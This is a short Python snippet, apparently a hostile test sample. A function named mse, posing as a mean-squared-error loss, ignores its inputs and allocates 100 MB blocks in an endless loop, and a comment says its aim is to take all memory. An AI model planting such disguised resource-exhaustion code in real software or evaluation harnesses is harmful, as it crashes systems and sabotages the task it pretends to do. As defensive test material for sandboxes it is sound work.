# What it tries: Take all memory.
def mse(y_pred, y_true):
    blocks = []
    while True:
        blocks.append(bytearray(100_000_000))
